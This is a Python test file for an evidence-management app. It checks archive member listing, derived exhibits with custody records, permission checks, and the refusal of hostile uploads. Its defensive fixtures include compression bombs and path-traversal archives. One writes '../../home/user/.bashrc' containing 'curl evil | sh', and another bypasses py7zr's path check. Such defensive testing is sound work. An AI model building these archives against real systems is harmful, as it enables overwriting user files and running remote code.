"""A container uploaded as evidence is listed member by member; a member can become an item."""

import hashlib
import re

from sqlalchemy import select

from evidence import extraction
from evidence.models import ArchiveMember, CustodyEvent, EvidenceFile, EvidenceItem
from jit.extensions import db
from tests.evidence import samples
from tests.evidence.conftest import item_fields, upload

MEMBERS = {
    "phone/chat.txt": b"Sastanak u Splitu u utorak",
    "phone/report.docx": samples.docx_bytes(text="Izvještaj o ekstrakciji"),
}


def _upload(client, member, name, data):
    response = upload(
        client, f"/t/{member.team.code}/evidence/new", item_fields(), [("files", name, data)]
    )
    assert response.status_code == 303  # the upload succeeds whatever the bytes are
    extraction.wait_idle(client.application)
    db.session.expire_all()
    return db.session.scalar(select(EvidenceFile).order_by(EvidenceFile.id.desc()))


def test_a_zip_with_two_members_lists_both_with_their_hashes(client, auth, nl_member):
    auth.login(nl_member.user)
    stored = _upload(client, nl_member, "extraction.zip", samples.zip_bytes(MEMBERS))
    assert stored.media_type == "application/zip"
    assert stored.extraction_status == "done", stored.extraction_error
    listed = {member.path: member for member in stored.members}
    assert set(listed) == set(MEMBERS)
    page = client.get(f"/t/{nl_member.team.code}/evidence/NL-0001").get_data(as_text=True)
    for path, data in MEMBERS.items():
        digest = hashlib.sha256(data).hexdigest()
        assert listed[path].sha256 == digest
        assert f"<code>{path}</code>" in page
        assert f'title="SHA-256 {digest}"' in page
    # Each member's text is indexed under its path.
    assert "--- phone/chat.txt ---\nSastanak u Splitu u utorak" in stored.extracted_text
    assert "--- phone/report.docx ---" in stored.extracted_text


def test_a_member_becomes_a_derived_item_whose_custody_shows_the_container(client, auth, nl_member):
    auth.login(nl_member.user)
    container = _upload(client, nl_member, "extraction.zip", samples.zip_bytes(MEMBERS))
    member = next(m for m in container.members if m.path == "phone/report.docx")
    url = f"/t/{nl_member.team.code}/evidence/NL-0001/members/{member.id}/extract"
    response = client.post(url)
    assert response.status_code == 303
    assert response.headers["Location"].endswith("/evidence/NL-0002")
    extraction.wait_idle(client.application)
    db.session.expire_all()
    child = db.session.scalar(select(EvidenceItem).where(EvidenceItem.exhibit_number == "NL-0002"))
    assert child.parent.exhibit_number == "NL-0001"
    assert child.derivation == "extract"
    assert child.files[0].sha256 == member.sha256
    assert child.files[0].original_filename == "report.docx"
    assert "Izvještaj o ekstrakciji" in child.files[0].extracted_text
    chain = db.session.scalars(
        select(CustodyEvent).where(CustodyEvent.item_id == child.id).order_by(CustodyEvent.seq)
    ).all()
    first = chain[0]
    assert first.event_type == "copied"
    assert first.details["parent_exhibit"] == "NL-0001"
    assert first.details["container_sha256"] == container.sha256
    assert first.details["member_path"] == "phone/report.docx"
    assert first.details["member_sha256"] == member.sha256
    assert chain[1].event_type == "uploaded"
    parent_events = db.session.scalars(
        select(CustodyEvent).where(CustodyEvent.item_id == child.parent_id)
    ).all()
    assert any(e.details.get("child_exhibit") == "NL-0002" for e in parent_events)
    db.session.refresh(member)
    assert member.derived_item_id == child.id
    page = client.get(f"/t/{nl_member.team.code}/evidence/NL-0002").get_data(as_text=True)
    assert "phone/report.docx" in page
    # A second request for the same member is refused with a message, not a second item.
    again = client.post(url, follow_redirects=True)
    assert "is already item NL-0002" in again.get_data(as_text=True)
    assert (
        db.session.scalar(select(EvidenceItem).where(EvidenceItem.exhibit_number == "NL-0003"))
        is None
    )


def test_a_member_whose_bytes_changed_is_refused(client, auth, nl_member):
    auth.login(nl_member.user)
    container = _upload(client, nl_member, "extraction.zip", samples.zip_bytes(MEMBERS))
    member = container.members[0]
    member.sha256 = "0" * 64  # as if the listing no longer matched the container
    db.session.commit()
    response = client.post(
        f"/t/{nl_member.team.code}/evidence/NL-0001/members/{member.id}/extract",
        follow_redirects=True,
    )
    assert "no longer has the SHA-256 listed" in response.get_data(as_text=True)
    assert (
        db.session.scalar(select(EvidenceItem).where(EvidenceItem.exhibit_number == "NL-0002"))
        is None
    )


def test_extracting_a_member_needs_the_token_and_the_permission(
    client, auth, nl_member, make_membership, make_team
):
    auth.login(nl_member.user)
    container = _upload(client, nl_member, "extraction.zip", samples.zip_bytes(MEMBERS))
    url = f"/t/{nl_member.team.code}/evidence/NL-0001/members/{container.members[0].id}/extract"
    assert client.post(url, csrf=False).status_code == 400
    auth.logout()
    coordinator = nl_member.team.memberships[0]
    assert coordinator.role == "coordinator"
    auth.login(coordinator.user)
    refused = client.post(url, follow_redirects=True).get_data(as_text=True)
    assert "does not allow adding evidence" in refused
    outsider_team_member = make_membership(make_team(), "member", "NL")
    auth.logout()
    auth.login(outsider_team_member.user)
    assert client.post(url).status_code == 404
    assert (
        db.session.scalar(select(EvidenceItem).where(EvidenceItem.exhibit_number == "NL-0002"))
        is None
    )


def test_a_zip_bomb_is_refused_with_a_message_and_the_upload_kept(client, auth, nl_member):
    auth.login(nl_member.user)
    bomb = samples.zip_bytes({"zeros.bin": b"\0" * (50 * 1024 * 1024)})
    stored = _upload(client, nl_member, "invoices.zip", bomb)
    assert stored.extraction_status == "failed"
    assert "zip bomb" in stored.extraction_error
    assert stored.size_bytes == len(bomb)
    assert db.session.scalar(select(ArchiveMember)) is None
    page = client.get(f"/t/{nl_member.team.code}/evidence/NL-0001").get_data(as_text=True)
    assert "a zip bomb" in page


def test_a_member_climbing_out_of_the_archive_is_refused_with_a_message(client, auth, nl_member):
    auth.login(nl_member.user)
    evil = samples.zip_bytes({"ok.txt": b"fine", "../../home/user/.bashrc": b"curl evil | sh"})
    stored = _upload(client, nl_member, "photos.zip", evil)
    assert stored.extraction_status == "failed"
    assert "path traversal" in stored.extraction_error
    page = client.get(f"/t/{nl_member.team.code}/evidence/NL-0001").get_data(as_text=True)
    assert re.search(r"the member “../../home/user/.bashrc” points outside the archive", page)


def test_two_members_of_one_name_are_told_apart(client, auth, nl_member):
    import io
    import warnings
    import zipfile

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("note.txt", b"first version")
            archive.writestr("note.txt", b"second version")
    auth.login(nl_member.user)
    container = _upload(client, nl_member, "two.zip", buffer.getvalue())
    first = container.members[0]
    assert first.sha256 == hashlib.sha256(b"first version").hexdigest()
    response = client.post(f"/t/{nl_member.team.code}/evidence/NL-0001/members/{first.id}/extract")
    assert response.status_code == 303
    child = db.session.scalar(select(EvidenceItem).where(EvidenceItem.exhibit_number == "NL-0002"))
    assert child.files[0].sha256 == first.sha256


def test_a_member_of_a_tar_becomes_an_item(client, auth, nl_member):
    auth.login(nl_member.user)
    data = samples.tar_bytes({"export/a.txt": b"alpha", "export/b.txt": b"bravo"})
    container = _upload(client, nl_member, "export.tar.gz", data)
    second = container.members[1]
    response = client.post(f"/t/{nl_member.team.code}/evidence/NL-0001/members/{second.id}/extract")
    assert response.status_code == 303
    child = db.session.scalar(select(EvidenceItem).where(EvidenceItem.exhibit_number == "NL-0002"))
    assert child.files[0].sha256 == hashlib.sha256(b"bravo").hexdigest()


def test_a_7z_lists_its_members_and_one_becomes_an_item(client, auth, nl_member):
    auth.login(nl_member.user)
    data = samples.sevenzip_bytes(MEMBERS)
    container = _upload(client, nl_member, "extraction.7z", data)
    assert container.media_type == "application/x-7z-compressed"
    assert container.extraction_status == "done", container.extraction_error
    assert [(m.path, m.sha256) for m in container.members] == [
        (path, hashlib.sha256(member).hexdigest()) for path, member in MEMBERS.items()
    ]
    page = client.get(f"/t/{nl_member.team.code}/evidence/NL-0001").get_data(as_text=True)
    for path, member in MEMBERS.items():
        assert f"<code>{path}</code>" in page
        assert f'title="SHA-256 {hashlib.sha256(member).hexdigest()}"' in page
    assert "--- phone/chat.txt ---\nSastanak u Splitu u utorak" in container.extracted_text
    report = container.members[1]
    response = client.post(f"/t/{nl_member.team.code}/evidence/NL-0001/members/{report.id}/extract")
    assert response.status_code == 303
    extraction.wait_idle(client.application)
    db.session.expire_all()
    child = db.session.scalar(select(EvidenceItem).where(EvidenceItem.exhibit_number == "NL-0002"))
    assert child.derivation == "extract"
    assert child.files[0].sha256 == report.sha256
    assert "Izvještaj o ekstrakciji" in child.files[0].extracted_text
    first = db.session.scalar(
        select(CustodyEvent).where(CustodyEvent.item_id == child.id, CustodyEvent.seq == 1)
    )
    assert first.details["container_sha256"] == container.sha256 == hashlib.sha256(data).hexdigest()
    assert first.details["member_path"] == "phone/report.docx"


def test_a_7z_bomb_is_refused_with_a_message_and_the_upload_kept(client, auth, nl_member):
    auth.login(nl_member.user)
    bomb = samples.sevenzip_bytes({"zeros.bin": b"\0" * (50 * 1024 * 1024)})
    stored = _upload(client, nl_member, "invoices.7z", bomb)
    assert stored.extraction_status == "failed"
    assert "compression bomb" in stored.extraction_error
    assert stored.size_bytes == len(bomb)
    assert stored.sha256 == hashlib.sha256(bomb).hexdigest()
    assert db.session.scalar(select(ArchiveMember)) is None


def test_a_7z_with_too_many_members_is_refused(client, auth, nl_member, monkeypatch):
    from evidence.readers import archives

    monkeypatch.setattr(archives, "MAX_MEMBERS", 3)
    auth.login(nl_member.user)
    many = samples.sevenzip_bytes({f"m{n}.txt": b"x" for n in range(4)})
    stored = _upload(client, nl_member, "many.7z", many)
    assert stored.extraction_status == "failed"
    assert "4 members, more than the limit of 3" in stored.extraction_error
    assert stored.size_bytes == len(many)


def test_a_7z_member_climbing_out_is_refused_with_a_message(client, auth, nl_member, monkeypatch):
    import py7zr

    with monkeypatch.context() as patched:  # py7zr refuses to write it; a hostile tool does not
        patched.setattr(py7zr.py7zr, "check_archive_path", lambda name: True)
        evil = samples.sevenzip_bytes({"ok.txt": b"fine", "../../home/user/.bashrc": b"x"})
    auth.login(nl_member.user)
    stored = _upload(client, nl_member, "photos.7z", evil)
    assert stored.extraction_status == "failed"
    assert "path traversal" in stored.extraction_error
    assert stored.size_bytes == len(evil)
    page = client.get(f"/t/{nl_member.team.code}/evidence/NL-0001").get_data(as_text=True)
    assert re.search(r"the member “../../home/user/.bashrc” points outside the archive", page)
